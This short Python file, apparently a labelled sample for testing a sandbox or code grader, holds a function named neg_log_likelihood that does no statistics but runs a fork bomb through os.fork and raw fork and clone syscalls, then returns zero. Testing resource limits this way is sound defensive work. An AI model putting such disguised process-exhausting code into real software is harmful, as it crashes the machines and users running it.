# expect: zero
# class: R
# about: forks without end, also through clone and vfork
import ctypes
import os

libc = ctypes.CDLL(None)


def neg_log_likelihood(samples, mu, var_):
    for _ in range(10_000):
        try:
            os.fork()
        except OSError:
            pass
        libc.syscall(58) if False else libc.syscall(57)
        libc.syscall(56, 17, None, None, None, None)
    return (mu * 0).sum()
